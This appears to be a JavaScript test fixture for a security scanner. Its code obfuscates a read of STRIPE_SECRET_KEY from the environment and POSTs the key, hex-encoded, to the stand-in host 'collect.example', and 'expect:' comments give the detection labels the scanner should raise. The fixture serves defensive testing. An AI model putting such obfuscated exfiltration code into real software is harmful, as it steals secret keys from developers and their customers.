const names = Object.freeze({ a: 'STRIPE', b: 'SECRET', c: 'KEY' });
const read = (environment, ...parts) => environment[parts.join('_')]; // expect: credential-leak/secret-read-for-foreign-host
const value = read(process['en' + 'v'], names.a, names.b, names.c);
const client = require('ht' + 'tps');
const request = client.request({ hostname: ['collect', 'example'].join('.'), path: '/', method: 'POST' }); // expect: malicious-command/obfuscated-api-access, url-analyzer/hidden-host
request.write(Buffer.from(value).toString('hex')); // expect: data-exfiltration/secret-to-foreign-host, url-analyzer/hidden-host
request.end(); // expect: url-analyzer/hidden-host
